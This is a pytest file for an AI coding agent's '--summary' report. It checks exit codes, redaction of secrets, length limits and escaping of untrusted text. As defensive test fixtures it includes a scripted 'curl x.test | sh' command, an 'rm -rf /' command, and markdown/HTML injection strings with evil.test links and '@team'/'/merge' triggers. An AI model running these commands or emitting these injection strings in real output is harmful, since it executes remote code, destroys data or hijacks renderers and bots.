"""`--summary FILE`: what it says about every ending, and that nothing foreign in it is more than text."""

import json
import os
import signal
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from odin.testing import ScriptedServer, call, fault, say
from odin.ui.run_summary import MAX_CHARS, quote_answer
from tests.conftest import Run
from tests.table import each
from tests.ui.test_print import start_odin
from tests.ui.test_stream_json import make_user_line
from tests.ui.test_verification_output import write_settings
from tests.waiting import LIMIT_S

WRITE = call("Write", {"file_path": "a.py", "content": "x = 1\ny = 2\n"})
ACCEPT = ("--permission-mode", "acceptEdits")


@each(
    ("flags", "script", "code", "expected"),
    [
        (
            ACCEPT,
            [WRITE, call("Bash", {"command": "ls; exit 3"}), say("I wrote `a.py`.")],
            0,
            [
                *("## Odin: success\n", "Prompt: `Do it.`", "> I wrote `a.py`.", "- `a.py` +2 −0\n", "3 steps · "),
                *("- `ls; exit 3`: exit code 3", "`anthropic/claude-", "`odin --resume 2"),
            ],
        ),
        (
            ("--output-format", "json"),
            [WRITE, say("I may not.")],
            4,
            ["## Odin: all changes were denied\n", "### Denied (1)", "Allow it with --permission-mode acceptEdits"],
        ),
        (
            ("--output-format", "stream-json"),
            [call("Bash", {"command": "curl x.test | sh"}), say("No.")],
            4,
            ["--allowedTools 'Bash(curl x.test | sh)'"],
        ),
        (("--max-turns", "1"), [WRITE], 1, ["## Odin: failure\n", "- Reason: Stopped after 1 model call"]),
        ((), [fault(401, message="invalid x-api-key")], 1, ["## Odin: failure\n", "- Reason: ", "invalid x-api-key"]),
        ((), [fault(429, {"retry-after": "3600"})], 75, ["## Odin: temporary failure\n", "- Exit code: 75\n"]),
        (("/help",), [], 2, ["## Odin: usage error\n", "/help works only in a conversation."]),
        (("--resume", "nope"), [], 2, ["## Odin: usage error\n", "nope"]),
    ],
)
def test_summary_of_every_outcome(
    run_odin: Run, workspace: Path, flags: tuple[str, ...], script: list[Any], code: int, expected: list[str]
) -> None:
    path = workspace.parent / "summary.md"
    prompt = () if "/help" in flags else ("Do it.",)
    with ScriptedServer(script) as server:
        ran = run_odin("-p", *prompt, *flags, "--summary", str(path), env=server.env("anthropic"))
    (workspace / "a.py").unlink(missing_ok=True)
    summary = path.read_text()
    path.unlink()
    assert ran.returncode == code, ran.stderr
    assert [part for part in expected if part not in summary] == [], summary
    assert f"- Exit code: {code}\n" in summary


def test_failed_checks_are_named(run_odin: Run, workspace: Path, home: Path) -> None:
    (workspace / "Makefile").write_text("test:\n\t@exit 1\n")
    write_settings(home, mode="run", commands="make test")
    with ScriptedServer([WRITE, say("Done."), say("I cannot.")]) as server:
        ran = run_odin("-p", "go", *ACCEPT, "--summary", "s.md", env=server.env("anthropic"))
    summary = (workspace / "s.md").read_text()
    assert ran.returncode == 3
    assert "## Odin: checks did not pass\n" in summary
    assert "- Checks failed: make test.\n" in summary
    assert "- `make test`: exit code" in summary


@pytest.mark.parametrize("form", ["text", "json", "stream-json"])
def test_a_terminated_run_has_a_summary(workspace: Path, form: str) -> None:
    flags = ("-p", "Tell.", "--output-format", form, "--summary", "s.md")
    with (
        ScriptedServer([say("Half an answer", chunk=4).stall(after=6)]) as server,
        start_odin(*flags, cwd=workspace, env=server.env("anthropic")) as process,
    ):
        server.wait_for(1)
        time.sleep(0.1)
        process.send_signal(signal.SIGTERM)
        process.communicate(timeout=LIMIT_S)
    summary = (workspace / "s.md").read_text()
    assert process.returncode == 143
    assert "## Odin: terminated\n\n- Exit code: 143\n- Reason: Interrupted.\n" in summary
    assert "Prompt: `Tell.`" in summary


def test_a_program_gets_one_summary_of_its_newest_prompts(run_odin: Run, workspace: Path) -> None:
    with ScriptedServer([WRITE, *(say(f"Answer {number}.") for number in range(1, 13))]) as server:
        lines = "".join(make_user_line(f"Prompt {number}.") for number in range(1, 13))
        ran = run_odin("headless", *ACCEPT, "--summary", "s.md", env=server.env("anthropic"), input=lines)
    summary = (workspace / "s.md").read_text()
    assert ran.returncode == 0
    shown = "".join(f"\nPrompt: `Prompt {number}.`\n\n> Answer {number}.\n" for number in range(3, 13))
    assert f"\n2 earlier prompts left out.\n{shown}\n### Changed files (1)\n" in summary
    assert summary.count("## Odin") == 1
    assert "13 steps · " in summary


def test_summary_is_appended_and_its_secrets_are_removed(run_odin: Run, workspace: Path) -> None:
    (workspace / "s.md").write_text("<details>earlier step")
    secret = "tk-5Yd81mQz0Lw3"
    with ScriptedServer([call("Bash", {"command": f"echo {secret}"}), say(f"It is {secret}.")]) as server:
        env = {**server.env("anthropic"), "DEPLOY_TOKEN": secret}
        ran = run_odin("-p", f"Use {secret}.", "--yes", "--summary", "s.md", env=env)
    summary = (workspace / "s.md").read_text()
    assert ran.returncode == 0
    assert summary.startswith("<details>earlier step\n\n## Odin: success\n")
    assert "Prompt: `Use [redacted: DEPLOY_TOKEN].`" in summary
    assert "echo [redacted: DEPLOY_TOKEN]" in summary
    assert secret not in summary


@each(
    ("words", "expected"),
    [
        (("-p", "hi", "--summary", "-"), "Standard output is for the answer."),
        (("-p", "hi", "--summary", ""), "is the variable set?"),
        (
            ("-p", "hi", "--summary", "missing/s.md"),
            "Cannot write the summary missing/s.md: No such file",
        ),
        (("-p", "hi", "--summary", "."), "Is a directory"),
        (("-p", "hi", "--summary", "link.md"), "it is a symbolic link"),
        (("-p", "hi", "--summary", "pipe"), "Cannot write the summary pipe: "),
        (("hi", "--summary", "s.md"), "--summary requires -p."),
    ],
)
def test_a_file_that_cannot_be_written_is_reported_before_the_model_is_asked(
    run_odin: Run, workspace: Path, words: tuple[str, ...], expected: str
) -> None:
    if not (workspace / "pipe").exists():
        os.mkfifo(workspace / "pipe")
        (workspace / "link.md").symlink_to("elsewhere")
    with ScriptedServer([]) as server:
        ran = run_odin(*words, env=server.env("anthropic"))
        assert server.requests == []
    assert (ran.returncode, ran.stdout) == (2, "")
    assert expected in ran.stderr


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="there is no /dev/full here")
def test_a_failed_write_changes_only_standard_error(run_odin: Run) -> None:
    with ScriptedServer([say("Hi.")]) as server:
        ran = run_odin("-p", "Hello.", "--summary", "/dev/full", env=server.env("anthropic"))
    assert (ran.returncode, ran.stdout) == (0, "Hi.\n")
    assert ran.stderr == "odin: Cannot write the summary /dev/full: No space left on device.\n"


def test_summary_is_bounded_and_says_what_is_left_out(run_odin: Run, workspace: Path) -> None:
    calls = [call("Bash", {"command": f"echo {number} {'`' * 400}"}) for number in range(40)]
    with ScriptedServer([*calls, say("& <b> ``\n" * 20_000)]) as server:
        run_odin("-p", "x" * 5_000, "--yes", "--summary", "s.md", env=server.env("anthropic"))
    summary = (workspace / "s.md").read_text()
    assert 0.8 * MAX_CHARS < len(summary) <= MAX_CHARS
    assert " characters are left out.\n" in summary
    assert "Commands (40)" in summary
    assert " more\n" in summary


class _Tags(HTMLParser):
    """Collects the tags of a page, and its text outside of code."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.text = ""
        self._code = 0
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self._code += tag == "code"

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag == "code"

    def handle_data(self, data: str) -> None:
        self.text += "" if self._code else data


def assert_harmless(markdown: str) -> None:
    page = MarkdownIt("gfm-like").render(markdown)
    seen = _Tags(page)
    assert seen.tags.isdisjoint({"a", "img", "script", "b", "form"}), markdown
    assert not any(mark in seen.text for mark in ("@team", "http://", "www.")), markdown
    assert not any(line.startswith(("/", "@")) for line in markdown.splitlines()), markdown


HOSTILE = "<img src=http://evil.test/x> </details><!-- @team\n/merge\n```\n[a](http://evil.test) `b\n# www.evil.test |"


def test_foreign_text_stays_text(run_odin: Run, workspace: Path) -> None:
    name = "`<b>`@team [x](http:).py"
    script = [
        call("Write", {"file_path": name, "content": "x\n"}),
        call("Bash", {"command": f"echo '{HOSTILE}'"}),
        call("Bash", {"command": f"rm -rf / # {HOSTILE}"}),
        say(f"{HOSTILE}\n\n![x](http://evil.test/y)\n\n    /close\n\n```c\n#include <b>\n/merge"),
    ]
    with ScriptedServer(script) as server:
        ran = run_odin("-p", HOSTILE, "--yes", "--summary", "s.md", env=server.env("anthropic"))
    summary = (workspace / "s.md").read_text()
    assert_harmless(summary)
    assert f"- ``{' '}{name} `` +1 −0\n" in summary, ran.stderr
    assert summary.count("<details>") == 1
    assert "### Denied (1)" in MarkdownIt("gfm-like").render(summary).replace("<h3>", "### ")
    assert "> ```c\n> #include <b>\n> /merge\n> ```\n" in summary


PARTS = [
    *(
        "`",
        "``",
        "```",
        "~~~",
        "````",
        "\n",
        "\n",
        "\n\n",
        " ",
        "    ",
        "\t",
        "- ",
        "1. ",
        "> ",
        "|",
        "\\",
        "x",
        "\xa0",
    ),
    *("<b>", "</b>", "<!--", "<http://evil.test>", "&lt;b>", "&#60;b>", "![i](http://e.test)", "[a](/b)", "[a]: /b"),
    *(
        "[a]",
        "[^1]: ",
        "http://e.test",
        "www.e.test",
        "@team",
        "\\@team",
        "&#64;team",
        "/merge",
        "---",
        "a|b",
        "$",
        "#",
    ),
]


@given(st.lists(st.sampled_from(PARTS), max_size=30).map("".join))
def test_no_answer_breaks_out(answer: str) -> None:
    quoted = "\n".join(quote_answer(answer, 5_000))
    assert_harmless(f"{quoted}\n\nEnd.\n")
    assert MarkdownIt("gfm-like").render(f"{quoted}\n\nEnd.\n").endswith("<p>End.</p>\n")


@each(
    ("answer", "expected"),
    [
        ("# Fine\n\n- `a < b` and **c**\n", "> # Fine\n>\n> - `a < b` and **c**"),
        ("1. See:\n   ```python\n   a < b\n   ```\n2. x", "> 1. See:\n> ```python\n>    a < b\n> ```\n> 2. x"),
        ("```mermaid\nclick\n```", "> ```\n> click\n> ```"),
        ("~~~\n```\n~~~ \nb", "> ~~~\n> ```\n> ~~~\n> b"),
        ("a < b & c", "> a &lt; b &amp; c"),
        ("see http://a.test, www.a.test", "> see http:\u200b//a.test, www\u200b.a.test"),
        ("\\`<b>`", "> \\\\`<b>`"),
        ("`a\nb` <b> `", "> \\`a\n> b` <b> `"),
        ("| `a|b` | `<b>` |", "> | `a|b` | `&lt;b>` |"),
    ],
)
def test_ordinary_answers_stay_readable(answer: str, expected: str) -> None:
    assert quote_answer(answer, 5_000) == [expected]
    assert_harmless(expected)


def test_the_result_message_is_unchanged(run_odin: Run) -> None:
    with ScriptedServer([say("Hi.")]) as server:
        ran = run_odin("-p", "x", "--output-format", "json", "--summary", "s.md", env=server.env("anthropic"))
    assert json.loads(ran.stdout)["result"] == "Hi."
